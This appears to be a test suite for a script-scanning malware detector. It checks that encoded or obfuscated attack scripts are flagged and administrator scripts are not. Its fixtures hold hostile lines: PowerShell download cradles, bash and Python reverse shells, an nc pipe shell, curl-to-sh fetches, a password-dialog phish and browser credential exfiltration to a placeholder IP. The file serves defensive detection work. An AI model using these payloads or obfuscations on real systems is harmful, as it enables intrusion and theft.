/** Scripts that hide their commands in coded text, and those of administrators that decode something else. */

import assert from 'node:assert/strict'
import { suite, test } from 'node:test'
import { gzipSync } from 'node:zlib'
import { assertCheap } from '#inspect/testing/cpu-time.ts'
import { useInspector } from '#inspect/testing/inspector.ts'
import { writeZip } from '#inspect/testing/zip-writer.ts'

const { inspect } = useInspector()
const packed = (name: string, text: string): Uint8Array => writeZip([{ name, data: Buffer.from(text) }])
const worst = (bytes: Uint8Array): string | undefined => inspect(bytes).findings[0]?.severity

const CRADLE = "IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.5/a')"
const xored = (text: string, key: string): number[] =>
  [...Buffer.from(text)].map((byte, i) => byte ^ key.charCodeAt(i % key.length))
const coded = (text: string): string => Buffer.from(text).toString('base64')

suite('a script with a coded command is malicious', () => {
  const attacks: [string, string][] = [
    ['xor.ps1', `$k=0x2B;$x=@(${xored(CRADLE, '+')});$s=-join($x|%{[char]($_ -bxor $k)});Write-Output $s`],
    ['text-key.ps1', `$k='secret';$x=${xored(CRADLE, 'secret').join(',')};f $x $k -bxor`],
    ['moved.ps1', `$x=${[...Buffer.from(CRADLE)].map((byte) => byte + 7)};$s=-join($x|%{[char]($_-7)})`],
    [
      'key-after-many-numbers.ps1',
      `${Array.from({ length: 120 }, (_, i) => `$a${i}=${i + 100}`).join(';')};$x=${xored(CRADLE, 'M').join(',')};$s=-join($x|%{[char]($_ -bxor 77)})`,
    ],
    ['behind-much-text.ps1', `$x='${coded(`rem ${'a '.repeat(60_000)}\n${CRADLE}`)}'`],
    ['digits.ps1', `$x='${Buffer.from(CRADLE).toString('hex')}'`],
    ['backwards.ps1', `$x='${[...coded(CRADLE)].reverse().join('')}'`],
    ['packed.ps1', `$x='${gzipSync(CRADLE).toString('base64')}'`],
    ['a.sh', `#!/bin/sh\necho ${coded('bash -i >& /dev/tcp/203.0.113.5/4444 0>&1')} | base64 -d > a\n`],
    ['exec.py', `import base64\nexec(base64.b64decode("${coded('print(1)')}"))\n`],
    ['later.py', `import base64\ncode = base64.b64decode("${coded('print(1)')}")\nexec(code)\n`],
    ['fetch.py', 'import urllib.request\nexec(urllib.request.urlopen("https://example.com/a").read())\n'],
    ['shell.py', 'import socket,os\ns=socket.socket()\ns.connect(("203.0.113.5",1))\nos.dup2(s.fileno(),0)\n'],
    ['pipe.sh', '#!/bin/sh\nmkfifo /tmp/f; cat /tmp/f | /bin/sh -i 2>&1 | nc 203.0.113.5 4444 > /tmp/f\n'],
    ['dialog.sh', '#!/bin/sh\np=$(osascript -e \'display dialog "Password" with hidden answer\')\ncurl -d "$p" a\n'],
    ['paste.sh', '#!/bin/sh\ncurl -s https://pastebin.com/raw/a | sh\n'],
    ['paste-user.sh', '#!/bin/sh\ncurl -s https://a:b@pastebin.com/raw/a | sh\n'],
    ['paste-query.sh', '#!/bin/sh\ncurl -s "https://0x0.st?a" | sh\n'],
    ['browser.py', 'p = "Login Data"\nimport requests\nrequests.post("http://a@203.0.113.5/", open(p))\nexec(p)\n'],
    ['tcp.ps1', '$c=New-Object Net.Sockets.TCPClient("a",1);$s=$c.GetStream();iex $s\n'],
    [
      'update.js',
      'var q=function(s){return s.split("").reverse().join("")};var a=this[q("tcejbOXevitcA")];var x=new a(q("PTTHLMX.2LMXSM"));x.open("GET","https://example.com/a",false);x.send();this["ev"+"al"](x.responseText);',
    ],
  ]
  for (const [name, text] of attacks) test(name, () => assert.equal(worst(packed(name, text)), 'malicious'))
})

suite('a script of an administrator is harmless', () => {
  const scripts: [string, string][] = [
    [
      'password.ps1',
      `$b = [Convert]::FromBase64String('${coded('correct horse battery')}')\nStart-Process 'C:\\Program Files\\A\\a.exe' -Credential (f $b) -Wait\n`,
    ],
    // Bytes that look like text.
    ['table.py', `import base64\ntable = base64.b64decode("${coded('dI\\des\\Dr|dF\\iex\\Ar{dC\\.e?\\#')}")\n`],
    ['install.ps1', 'Start-Process msiexec.exe -ArgumentList "/i a.msi /qn" -Wait -WindowStyle Hidden\n'],
    [
      'task.ps1',
      "$a = New-ScheduledTaskAction -Execute 'powershell.exe' -Argument '-WindowStyle Hidden -File C:\\Scripts\\a.ps1'\nStart-Process notepad\n",
    ],
    ['forms.ps1', "[Reflection.Assembly]::LoadWithPartialName('System.Windows.Forms')\nStart-Process notepad\n"],
    ['checksum.ps1', 'foreach ($c in $line.ToCharArray()) { $sum = $sum -bxor [int]$c }\n& notepad.exe a.txt\n'],
    [
      'tools.ps1',
      "iex ((New-Object Net.WebClient).DownloadString('https://community.chocolatey.org/install.ps1'))\nchoco install 7zip\n",
    ],
    ['mirror.sh', '#!/bin/sh\ncurl -s https://pastebin.com.example.com/install.sh | sh\n'],
    ['logon.cmd', '@echo off\r\ncscript //nologo %LOGONSERVER%\\netlogon\\printers.vbs\r\n'],
    ['build.py', 'import base64, subprocess\nsubprocess.run(["git", "fetch"])\nprint(base64.b64decode("aGVsbG8="))\n'],
    ['server.py', 'import socket\ns = socket.socket()\ns.bind(("", 80))\nprint(s.recv(9))\n'],
  ]
  for (const [name, text] of scripts)
    test(name, () => assert.ok([undefined, 'notice'].includes(worst(packed(name, text)))))
  for (const host of ['community.chocolatey.org.example.com', 'get.scoop.sh@example.com'])
    test(`unless ${host} takes the place of the installer`, () => {
      const text = `iex ((New-Object Net.WebClient).DownloadString('https://${host}/install.ps1'))\n`
      assert.equal(worst(packed('tools.ps1', text)), 'malicious')
    })
})

test('very many downloads on one line take linear time', () => {
  for (const word of ['curl ', 'wget ', 'certutil ']) assertCheap(() => inspect(packed('a.ps1', word.repeat(200_000))))
})
